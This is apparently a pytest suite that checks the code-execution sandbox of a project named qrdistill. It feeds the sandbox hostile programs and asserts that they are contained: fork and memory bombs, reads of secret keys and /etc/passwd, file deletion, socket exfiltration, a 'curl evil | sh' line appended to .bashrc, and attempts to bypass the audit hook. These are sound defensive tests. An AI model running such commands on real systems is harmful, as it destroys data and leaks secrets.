"""Hostile programs in the sandbox: each ends as a recorded failure within its limits, and the host is
untouched — as the caller (root in CI) and as an unprivileged user (``nobody``, where the machine has a
Python that user can run), and with the audit hook left out, to show that the kernel layers hold alone
(what a program that disabled the hook would face)."""

from __future__ import annotations

import ast
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import asdict
from pathlib import Path as FsPath

import pytest

from qrdistill.quality.confine import SETUP_EXIT, SETUP_FAILED
from qrdistill.quality.sandbox import NOBODY, SandboxLimits, SandboxResult, isolation_problem, run_python

LIMITS = SandboxLimits(wall_s=6.0, cpu_s=1, memory_mb=256, output_bytes=20_000)
SECRET = "sk-qrdistill-fake-secret-7f3a9c"
SRC = FsPath(__file__).resolve().parents[2] / "src"
IS_ROOT = os.geteuid() == 0
HOOK = pytest.mark.parametrize("hook", [True, False], ids=["with-hook", "kernel-only"])

_RUNNER = """
import json, sys
from dataclasses import asdict
from qrdistill.quality.sandbox import SandboxLimits, run_python
job = json.load(sys.stdin)
print(json.dumps(asdict(run_python(job["code"], SandboxLimits(**job["limits"]), audit_hook=job["hook"]))))
"""


def _python_for_nobody() -> str | None:
    """An interpreter ``nobody`` can start (the project's venv may live under /root), or None."""
    for candidate in dict.fromkeys([sys.executable, shutil.which("python3"), "/usr/bin/python3"]):
        try:
            if candidate and subprocess.run([candidate, "-c", "import ctypes, json"], user=NOBODY, group=NOBODY,
                                            extra_groups=[], cwd="/", capture_output=True).returncode == 0:
                return candidate
        except OSError:
            continue
    return None


@pytest.fixture(scope="module")
def nobody_tree():
    """A world-readable copy of the package for a Python that ``nobody`` runs."""
    if not IS_ROOT:
        pytest.skip("already unprivileged: the caller case covers it")
    python = _python_for_nobody()
    if python is None:
        pytest.skip("no Python interpreter on this machine that an unprivileged user can start")
    root = FsPath(tempfile.mkdtemp(prefix="qrdistill-test-nobody-"))
    shutil.copytree(SRC / "qrdistill", root / "qrdistill", ignore=shutil.ignore_patterns("__pycache__"))
    for path in [root, *root.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    yield python, root
    shutil.rmtree(root)


@pytest.fixture(params=["caller", "nobody"])
def run(request):
    """``run(code, limits, hook=True) -> SandboxResult`` as the test's own user, or as ``nobody``."""
    if request.param == "caller":
        return lambda code, limits=LIMITS, hook=True: run_python(code, limits, audit_hook=hook)
    python, root = request.getfixturevalue("nobody_tree")

    def as_nobody(code: str, limits: SandboxLimits = LIMITS, hook: bool = True) -> SandboxResult:
        job = json.dumps({"code": code, "limits": asdict(limits), "hook": hook})
        done = subprocess.run([python, "-c", _RUNNER], input=job, text=True, capture_output=True, user=NOBODY,
                              group=NOBODY, extra_groups=[], cwd="/", env={"PYTHONPATH": str(root)}, timeout=60)
        assert done.returncode == 0, done.stderr
        return SandboxResult(**json.loads(done.stdout))
    return as_nobody


@pytest.fixture
def place():
    """A directory outside /tmp (the sandbox's /tmp is its own) holding a secret, a canary and a .bashrc,
    that file permissions let anyone read and write: only the sandbox stands between a program and it."""
    root = FsPath(tempfile.mkdtemp(prefix="qrdistill-test-", dir="/var/tmp" if os.path.isdir("/var/tmp") else None))
    for name, text in (("secret.key", SECRET), ("canary.txt", "alive"), (".bashrc", "# rc\n")):
        (root / name).write_text(text)
        (root / name).chmod(0o666)
    root.chmod(0o777)
    yield root
    shutil.rmtree(root)


def test_this_machine_can_sandbox():
    assert isolation_problem() is None


def test_a_plain_program_runs_in_a_private_tmpfs_that_vanishes(run):
    marker = f"scratch-{uuid.uuid4().hex}.txt"
    code = (f"import os\nfrom fractions import Fraction\nopen({marker!r}, 'w').write('3')\nprint(sorted(os.listdir('.')))\n"
            "print(os.getcwd())\nprint(Fraction(1, 3) * 9)")
    result = run(code)
    assert result.outcome == "ok", result
    listing, workdir, value = result.stdout.splitlines()
    assert value == "3"
    assert ast.literal_eval(listing) == sorted(["main.py", marker])
    assert not (FsPath(workdir) / marker).exists()   # the program's /tmp is not the host's


def test_numpy_and_sympy_are_importable():
    result = run_python("import numpy as np\nimport sympy as sp\nx = sp.symbols('x')\n"
                 "print(int(np.arange(5).sum()), sp.solve(x**2 - 4, x), sp.Rational(1, 3) + 1)", SandboxLimits(wall_s=30, cpu_s=10))
    assert result.outcome == "ok", result
    assert result.stdout.strip() == "10 [-2, 2] 4/3"


def test_infinite_loop_is_stopped_by_the_cpu_or_wall_limit(run):
    result = run("while True:\n    pass")
    assert result.outcome in ("cpu_limit", "timeout")
    assert result.seconds < LIMITS.wall_s + 5


def test_sleeping_forever_hits_the_wall_clock(run):
    result = run("import time\ntime.sleep(60)", SandboxLimits(wall_s=1.5, cpu_s=1))
    assert result.outcome == "timeout"
    assert result.seconds < 5


@HOOK
@pytest.mark.parametrize("code", ["import os\nwhile True:\n    os.fork()", "import posix\nposix.fork()\nprint('forked')",
                                  "import subprocess\nsubprocess.run(['true'])\nprint('forked')", "import os\nos.system('true')",
                                  "import os\nos.execv('/bin/true', ['true'])",
                                  "import threading\nt = threading.Thread(target=print, args=('forked',))\nt.start()\nt.join()"])
def test_no_process_or_thread_can_be_started(run, code, hook):
    result = run(code, hook=hook)
    assert result.outcome in ("blocked", "error"), result
    assert "forked" not in result.stdout


def test_memory_bomb_hits_the_memory_cap(run):
    for code in ("x = ' ' * (10 ** 10)", "chunks = []\nwhile True:\n    chunks.append(bytearray(10 ** 7))"):
        result = run(code)
        assert result.outcome == "memory", (code, result)


def test_printing_gigabytes_is_cut_at_the_output_cap(run):
    result = run("while True:\n    print('x' * 1_000_000)")
    assert result.outcome == "output_limit"
    assert len(result.stdout) <= LIMITS.output_bytes
    assert result.seconds < LIMITS.wall_s


@HOOK
def test_files_outside_cannot_be_read_written_or_deleted(run, place, hook):
    canary, key, rc = place / "canary.txt", place / "secret.key", place / ".bashrc"
    attempts = [f"print(open({str(key)!r}).read())", f"import os\nprint(os.listdir({str(place)!r}))",
                "print(open('/etc/passwd').read())", "import os\nprint(os.listdir('/proc'))",
                "print(open('/proc/self/environ').read())", f"import os\nos.remove({str(canary)!r})",
                f"open({str(canary)!r}, 'w').write('overwritten')", f"import os\nos.rename({str(canary)!r}, 'moved')",
                f"import shutil\nshutil.rmtree({str(place)!r})", f"import os\nos.truncate({str(canary)!r}, 0)",
                f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"]
    for code in attempts:
        result = run(code, hook=hook)
        assert result.outcome in ("blocked", "error"), (code, result)
        assert SECRET not in result.stdout + result.stderr and "root:" not in result.stdout, code
        assert canary.read_text() == "alive" and rc.read_text() == "# rc\n", code


def test_writes_to_tmp_stay_in_the_sandbox(run):
    name = f"/tmp/qrdistill-canary-{uuid.uuid4().hex}"
    result = run(f"open({name!r}, 'w').write('x')\nimport os\nos.mkdir({name + '.d'!r})\nprint('wrote')")
    assert result.outcome == "ok" and result.stdout.strip() == "wrote"
    assert not os.path.exists(name) and not os.path.exists(name + ".d")


def test_a_caught_forbidden_attempt_is_still_reported(run, place):
    key = place / "secret.key"
    code = f"try:\n    print(open({str(key)!r}).read())\nexcept PermissionError:\n    pass\nprint(17)"
    result = run(code)
    assert result.outcome == "blocked" and "secret.key" in result.error_line
    assert SECRET not in result.stdout
    assert run(code, hook=False).stdout.strip() == "17"   # the kernel refused the read; the hook is the witness


def test_switching_off_the_audit_hook_from_inside_fails_and_contains_nothing(run, place):
    key = place / "secret.key"
    bypass = ("import sys, gc\nm = sys.modules['__main__']\n"
              "for attempt in (lambda: setattr(m._hook, '__code__', (lambda e, a: None).__code__),\n"
              "                lambda: setattr(m, '_readable', ('/',)),\n"
              "                lambda: [setattr(f, '__code__', (lambda e, a: None).__code__) for f in gc.get_objects() if getattr(f, '__name__', '') == 'hook']):\n"
              "    try:\n        attempt()\n    except Exception as exc:\n        print('bypass failed:', type(exc).__name__)\n"
              f"try:\n    print(open({str(key)!r}).read())\nexcept Exception as exc:\n    print('read failed:', type(exc).__name__)\n"
              "print(open('/etc/passwd').read())")
    for hook in (True, False):
        result = run(bypass, hook=hook)
        assert result.outcome in ("blocked", "error"), result
        assert SECRET not in result.stdout + result.stderr and "root:" not in result.stdout


def test_no_environment_secret_reaches_the_program(run, monkeypatch):
    monkeypatch.setenv("QRDISTILL_TEST_API_KEY", SECRET)
    code = ("import os\nprint(dict(os.environ))\n"
            "for pid in (os.getppid(), 1, 'self'):\n"
            "    try:\n        print(open(f'/proc/{pid}/environ', 'rb').read())\n"
            "    except Exception as exc:\n        print('refused', type(exc).__name__)\n")
    result = run(code, hook=False)
    assert "refused" in result.stdout
    assert SECRET not in result.stdout + result.stderr


@HOOK
def test_sockets_cannot_reach_a_listening_server(run, hook):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        code = (f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
                f"    s.sendall(b'{SECRET}')\n    print('connected')\nexcept OSError:\n    pass\nprint(17)")
        result = run(code, hook=hook)
        time.sleep(0.3)
    finally:
        stop.set()
        thread.join()
        server.close()
    assert result.outcome in ("blocked", "error"), result
    assert "connected" not in result.stdout
    assert accepted == []


@HOOK
def test_signals_cannot_reach_other_processes(run, hook):
    sleeper = subprocess.Popen(["sleep", "30"], user=NOBODY if IS_ROOT else None)   # the sandbox's own uid as root
    try:
        for target in ("os.getppid()", str(sleeper.pid), "-1"):
            result = run(f"import os\nos.kill({target}, 9)", hook=hook)
            assert result.outcome == "blocked", (target, result)
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


def test_thousands_of_files_hit_the_disk_and_file_caps(run):
    code = "for i in range(3000):\n    open(f'f{i}', 'wb').write(b'x' * 100_000)\nprint(17)"
    result = run(code)
    assert result.outcome == "error" and "No space left on device" in result.error_line
    few = run("for i in range(200):\n    open(f'f{i}', 'w').write('x')\nprint(17)")
    assert few.outcome == "error" and "No space left on device" in few.error_line   # the inode cap


@pytest.mark.parametrize("code", ["print(", "raise SystemExit(3)", "1/0"])
def test_crashes_are_errors(code):
    assert run_python(code, LIMITS).outcome == "error"


def test_set_up_fails_closed_without_running_the_code():
    """A confinement step that cannot be taken (here: the parent check) stops the child before the code."""
    from qrdistill.quality import sandbox

    settings = {**sandbox._settings("print('ran')", LIMITS, True), "parent": 1}
    done = subprocess.run([sys.executable, "-I", "-S", "-B", str(sandbox._CONFINE), json.dumps(settings)],
                          input="print('ran')", text=True, capture_output=True, env={}, timeout=30)
    assert done.returncode == SETUP_EXIT and SETUP_FAILED in done.stderr
    assert "ran" not in done.stdout


def _sandboxed_children(parent: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = FsPath(f"/proc/{entry}/stat").read_text()
            cmdline = FsPath(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if int(stat.rsplit(")", 1)[1].split()[1]) == parent and b"confine.py" in cmdline:
            found.append(int(entry))
    return found


def _alive(pid: int) -> bool:
    try:
        return FsPath(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _kill_while_programs_run(cmd: list[str], sig: int, **popen) -> None:
    before = {n for n in os.listdir(tempfile.gettempdir()) if n.startswith("qrdistill-sandbox-")}
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **popen)
    try:
        deadline = time.monotonic() + 60
        children: list[int] = []
        while len(children) < 2 and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.1)
            children = _sandboxed_children(proc.pid)
        assert len(children) >= 2, "the programs never started"
        time.sleep(1.5)   # past their set-up (which also exits when the parent is gone): running the code
        os.kill(proc.pid, sig)
        proc.wait(timeout=30)
    finally:
        proc.kill()
        proc.wait()
    deadline = time.monotonic() + 3   # far less than the programs' CPU and wall limits
    while any(_alive(pid) for pid in children) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [pid for pid in children if _alive(pid)]
    assert {n for n in os.listdir(tempfile.gettempdir()) if n.startswith("qrdistill-sandbox-")} == before


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "kill-9"])
def test_a_killed_filter_leaves_no_program_running(tmp_path, sig):
    from qrdistill.jsonl import write_records
    from qrdistill.records import Path, Question

    loop = "```python\nwhile True:\n    pass\n```\nThe answer is \\boxed{17}."
    write_records(tmp_path / "paths.jsonl", [Path(question_id="q1", task="gsm8k", style="program", sample=i, teacher="t",
                                                  text=loop) for i in range(4)])
    write_records(tmp_path / "q.jsonl", [Question(id="q1", task="gsm8k", question="3 * 4 + 5?", gold="17")])
    cmd = [sys.executable, "-c", "from qrdistill.cli import app; app()", "filter", "--in", str(tmp_path / "paths.jsonl"),
           "--out", str(tmp_path / "f.jsonl"), "--questions", str(tmp_path / "q.jsonl"), "--verifiers", "program"]
    _kill_while_programs_run(cmd, sig, env={**os.environ, "PYTHONPATH": str(SRC)})
    assert not (tmp_path / "f.jsonl").exists()


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "kill-9"])
def test_a_killed_unprivileged_caller_leaves_no_program_running(nobody_tree, sig):
    python, root = nobody_tree
    driver = ("from concurrent.futures import ThreadPoolExecutor\nfrom qrdistill.quality.sandbox import SandboxLimits, run_python\n"
              "with ThreadPoolExecutor(2) as pool:\n"
              "    list(pool.map(lambda _: run_python('while True:\\n    pass', SandboxLimits(wall_s=60, cpu_s=60)), range(2)))")
    _kill_while_programs_run([python, "-c", driver], sig, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/",
                             env={"PYTHONPATH": str(root)})
